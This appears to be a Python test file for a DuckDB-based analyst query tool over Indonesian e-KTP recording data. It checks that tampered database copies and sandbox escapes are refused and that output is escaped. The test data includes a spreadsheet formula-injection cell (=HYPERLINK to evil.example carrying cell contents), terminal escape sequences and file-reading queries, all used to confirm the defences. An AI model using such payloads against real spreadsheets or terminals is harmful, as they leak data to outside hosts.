            con.execute("""insert into audit.file_loads values (?, 'abc', 'loaded', ?, 0, null, now(), 'rekam', ?, ?, 100, 1,
                           0, 'v2run', null)""", [rel, n, day, rel.split("/")[2][:-4]])
            if n:
                con.execute("""insert into landing.rekam values ('p', 'L', 30, 'KAWIN', '16.09.01.1013', ?::timestamp, 'BARU',
                               'DINAS', 'DINAS-01', ?, 'abc', 2, 'v2run')""", [day + " 08:00:00", rel])
        assert upgrade_v3(con, KEY.encode(), "v3run") == {"files_dated_before_2011_rejected": 2}
        assert con.execute("select source_file, status, split_part(error, ':', 1), rows_loaded from audit.file_loads order by 1").fetchall() == [
            ("rekam/0001-01-01/16.09.01.csv", "rejected", "date_before_2011", 0),
            ("rekam/1990-05-12/16.09.02.csv", "rejected", "date_before_2011", 0),
            ("rekam/2011-01-01/16.09.03.csv", "loaded", None, 1)]
        assert con.execute("select source_file from landing.rekam").fetchall() == [("rekam/2011-01-01/16.09.03.csv",)]
        assert upgrade_v3(con, KEY.encode(), "again") == {}                    # once only
    finally:
        con.close()


# --- 15. the analyst sandbox, second review (issue 16): what the copy is, spill folders, output ----------

def _person_ids(landing: Landing) -> list[str]:
    ids = [p for (p,) in landing.query("select distinct person_id from landing.rekam")]
    assert ids and all(len(p) >= 16 for p in ids)
    return ids


def _data_dir_with_copy(tmp_path: Path, make) -> Path:
    """A data directory X whose X/warehouse/ektp_analyst.duckdb is made by make(path)."""
    (tmp_path / "x" / "warehouse").mkdir(parents=True)
    make(tmp_path / "x" / "warehouse" / "ektp_analyst.duckdb")
    return tmp_path / "x"


@pytest.mark.parametrize("target", ["writers_file", "analysts_copy"])
def test_a_data_directory_whose_copy_is_a_symlink_is_refused_before_any_sql(published, tmp_path, capsys, target):
    source = published.warehouse if target == "writers_file" else published.published
    data = _data_dir_with_copy(tmp_path, lambda p: p.symlink_to(source))
    capsys.readouterr()
    assert main(["query", "--data-dir", str(data), "select * from landing.rekam"]) == 1
    err = _one_line(capsys)
    out = capsys.readouterr().out
    assert "is a symbolic link" in err, err
    assert out == "" and not any(p in err for p in _person_ids(published))


def test_a_data_directory_holding_a_copy_of_the_writers_file_is_refused_by_its_catalog(published, tmp_path, capsys):
    import shutil

    data = _data_dir_with_copy(tmp_path, lambda p: shutil.copyfile(published.warehouse, p))
    capsys.readouterr()
    assert main(["query", "--data-dir", str(data), "--format", "csv", "select * from landing.rekam"]) == 1
    err = _one_line(capsys)
    assert "a row per person or per recording (audit.quarantine, core.first_recording, core.recording" in err, err
    assert capsys.readouterr().out == "" and not any(p in err for p in _person_ids(published))


PLANTED = {
    "a_person_id_column_under_a_published_name": "create table mart.backlog as select 'p' as Person_ID",
    "a_line_number_in_the_quarantine_summary": "create schema audit; create table audit.quarantine_summary as select 1 as line_number",
    "a_table_outside_what_is_published": "create schema staging; create table staging.rekam as select 1 as n",
    "a_view_in_the_main_schema": "create view recordings as select 1 as n",
    "catalog_functions_shadowed_by_macros": """create schema landing; create table landing.rekam as select 'p' as person_id;
        create macro duckdb_tables() as table select 1 as x; create macro duckdb_views() as table select 1 as x;
        create macro duckdb_columns() as table select 1 as x""",
}


@pytest.mark.parametrize("planted", sorted(PLANTED))
def test_a_copy_holding_a_relation_the_publisher_never_writes_is_refused(tmp_path, capsys, planted):
    def make(path: Path) -> None:
        con = duckdb.connect(str(path))
        con.execute("create schema if not exists mart; create table mart.backlog_kecamatan as select 1 as n")
        con.execute(PLANTED[planted])
        con.close()

    data = _data_dir_with_copy(tmp_path, make)
    assert main(["query", "--data-dir", str(data), "select 42 as answer"]) == 1
    assert "a row per person or per recording" in _one_line(capsys)
    assert "42" not in capsys.readouterr().out


def test_a_fifo_in_place_of_the_copy_is_refused_without_blocking(tmp_path, capsys):
    data = _data_dir_with_copy(tmp_path, os.mkfifo)
    with _deadline(20):
        assert main(["query", "--data-dir", str(data), "select 1"]) == 1
    assert "not a regular file" in _one_line(capsys)


def _spill_folder(published: Landing) -> Path:
    return published.published.with_name(published.published.name + ".tmp")


@pytest.mark.parametrize("attack", ["copy_into_the_spill_folder", "glob_the_spill_folder", "read_a_spill_file"])
def test_the_sandbox_cannot_write_to_or_list_a_spill_folder_next_to_the_copy(published, capsys, attack):
    folder = _spill_folder(published)
    folder.mkdir()
    (folder / "duckdb_temp_storage_S32K-0.tmp").write_text("spilled rows\n")
    sql = {"copy_into_the_spill_folder": f"copy (select * from mart.backlog) to '{folder}/x.csv'",
           "glob_the_spill_folder": f"select * from glob('{folder}/*')",
           "read_a_spill_file": f"select * from read_text('{folder}/duckdb_temp_storage_S32K-0.tmp')"}[attack]
    try:
        capsys.readouterr()
        assert main(["query", "--data-dir", str(published.data_dir), sql]) == 1
        assert _one_line(capsys).startswith("ektp: query failed: ")
        out = capsys.readouterr().out
        assert "duckdb_temp_storage" not in out and "spilled rows" not in out
        assert sorted(p.name for p in folder.iterdir()) == ["duckdb_temp_storage_S32K-0.tmp"]
    finally:
        for p in folder.iterdir():
            p.unlink()
        folder.rmdir()


def test_a_query_that_would_spill_fails_at_the_memory_limit_and_writes_nothing(published, capsys, monkeypatch):
    before = sorted(os.listdir(published.published.parent))
    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv",
                 "select current_setting('temp_directory') as t, current_setting('allowed_directories')::varchar as a"]) == 0
    assert capsys.readouterr().out.splitlines()[1:] == [",[]"]
    monkeypatch.setenv("EKTP_QUERY_MEMORY", "100MB")
    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv",
                 "select count(*) from (select range, random() as r from range(20000000) order by r)"]) == 1
    err = _one_line(capsys)
    assert err.startswith("ektp: query failed: Out of Memory Error"), err
    assert capsys.readouterr().out == ""                    # no header left behind either
    assert sorted(os.listdir(published.published.parent)) == before


HOSTILE_CELLS = ("""select '=HYPERLINK("http://evil.example/?"||A1)' as f, '+1+1' as p, '-2+3' as m, '@SUM(A1)' as a,
                 chr(9) || '=1' as t, chr(13) || '=1' as r, 'plain' as o, -5 as n, -2.5::double as d,
                 '-5' as s, chr(27) || '[2J' || chr(7) || chr(8238) || chr(133) as e""")


def test_csv_output_neutralises_formula_cells_but_keeps_negative_numbers(published, capsys):
    import csv

    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv", HOSTILE_CELLS]) == 0
    out = capsys.readouterr().out
    [header, cells] = list(csv.reader(StringIO(out)))
    got = dict(zip(header, cells))
    assert got["f"] == """'=HYPERLINK("http://evil.example/?"||A1)""" and got["p"] == "'+1+1" and got["m"] == "'-2+3"
    assert got["a"] == "'@SUM(A1)" and got["t"] == "'\\x09=1" and got["r"] == "'\\x0d=1" and got["o"] == "plain"
    assert got["n"] == "-5" and got["d"] == "-2.5"          # numbers stay numbers
    assert got["s"] == "'-5"                                # a text cell is text, whatever it looks like
    assert got["e"] == "\\x1b[2J\\x07\\u202e\\x85"


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_every_output_format_escapes_control_characters(published, capsys, fmt):
    import unicodedata

    sql = ("select chr(27) || ']8;;http://evil.example' || chr(7) || 'x' || chr(10) || chr(8238) as "
           "\"h" + chr(27) + "[1m\", chr(13) || chr(0) || chr(133) as v")
    assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt, sql]) == 0
    out = capsys.readouterr().out
    bad = [hex(ord(ch)) for ch in out if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")]
    assert bad == [], bad
    assert "\\x1b]8;;http://evil.example\\x07x\\x0a\\u202e" in out.replace("\\\\", "\\")
    if fmt == "json":
        import json
        assert json.loads(out)[0]["v"] == "\\x0d\\x00\\x85"


@pytest.mark.parametrize("fmt", ["table", "csv", "json"])
def test_a_fifty_megabyte_cell_is_cut_to_the_cell_limit_with_a_note(published, capsys, monkeypatch, fmt):
    monkeypatch.setenv("EKTP_QUERY_MAX_CELL_BYTES", "1000")
    assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt,
                 "select repeat('x', 50000000) as s, 7 as n"]) == 0
    captured = capsys.readouterr()
    assert captured.out.count("x") == 1000 and len(captured.out.encode()) < 6000, len(captured.out)   # table: a rule
    assert captured.err == "ektp: output cut: 1 cell cut to 1,000 bytes (EKTP_QUERY_MAX_CELL_BYTES).\n"


def test_the_output_stops_at_the_row_and_byte_limits_with_a_note(published, capsys, monkeypatch):
    import json

    monkeypatch.setenv("EKTP_QUERY_MAX_ROWS", "5")
    assert main(["query", "--data-dir", str(published.data_dir), "--format", "csv", "select range from range(1000000)"]) == 0
    captured = capsys.readouterr()
    assert captured.out.split() == ["range", "0", "1", "2", "3", "4"]
    assert captured.err == "ektp: output cut: only the first 5 rows (EKTP_QUERY_MAX_ROWS).\n"
    monkeypatch.delenv("EKTP_QUERY_MAX_ROWS")
    monkeypatch.setenv("EKTP_QUERY_MAX_OUTPUT_BYTES", "1000")
    for fmt in ("csv", "json", "table"):
        assert main(["query", "--data-dir", str(published.data_dir), "--format", fmt,
                     "select repeat('y', 90) as y from range(1000000)"]) == 0
        captured = capsys.readouterr()
        assert 800 < len(captured.out.encode()) <= 1000, (fmt, len(captured.out))
        assert captured.err == "ektp: output cut: stopped at 1,000 bytes (EKTP_QUERY_MAX_OUTPUT_BYTES).\n", fmt
        if fmt == "json":
            assert len(json.loads(captured.out)) >= 5        # still a whole JSON document


def test_the_output_limits_are_settings_read_from_the_environment(monkeypatch, tmp_path):
    from flows.settings import load_settings

    s = load_settings(tmp_path)
    assert (s.query_max_rows, s.query_max_cell_bytes, s.query_max_output_bytes) == (1_000_000, 10_000, 100_000_000)
    monkeypatch.setenv("EKTP_QUERY_MAX_ROWS", "10")
    monkeypatch.setenv("EKTP_QUERY_MAX_CELL_BYTES", "20")
    monkeypatch.setenv("EKTP_QUERY_MAX_OUTPUT_BYTES", "30")
    s = load_settings(tmp_path)
    assert (s.query_max_rows, s.query_max_cell_bytes, s.query_max_output_bytes) == (10, 20, 30)


def test_a_copy_with_person_rows_planted_over_the_published_copy_is_made_owner_only(tmp_path, monkeypatch):
    """Issue 19: a run does not open the analysts' copy to look for person-level rows when the
    writer's file records it as the copy a run of this version published (same size and
    modification time). A file put in its place is not that copy: it is looked into and, holding a
    landing table, made owner-only before anything else happens."""
    from flows.settings import load_settings
    from flows.warehouse import database

    settings = load_settings(tmp_path / "data")
    con = database.connect_writer(settings)
    clean = duckdb.connect(str(settings.published_path))
    clean.execute("create schema mart; create table mart.backlog as select 1 as wajib_ktp")
    clean.close()
    os.chmod(settings.published_path, 0o644)
    st = settings.published_path.stat()
    con.execute("insert into audit.publish_state values ('k', ?, ?, now())", [st.st_size, st.st_mtime_ns])
    con.close()
    looked = []
    real = database.holds_person_rows
    monkeypatch.setattr(database, "holds_person_rows", lambda path: looked.append(path) or real(path))

    ro = database.open_read_only(settings)
    database.secure_files(settings, ro)
    assert looked == [] and _mode(settings.published_path) == 0o644, "the recorded copy is trusted as it is"

    settings.published_path.unlink()
    planted = duckdb.connect(str(settings.published_path))
    planted.execute("create schema landing; create table landing.rekam as select 'SITI AMINAH' as nama")
    planted.close()
    os.chmod(settings.published_path, 0o644)
    database.secure_files(settings, ro)
    ro.close()
    assert looked == [settings.published_path] and _mode(settings.published_path) == 0o600
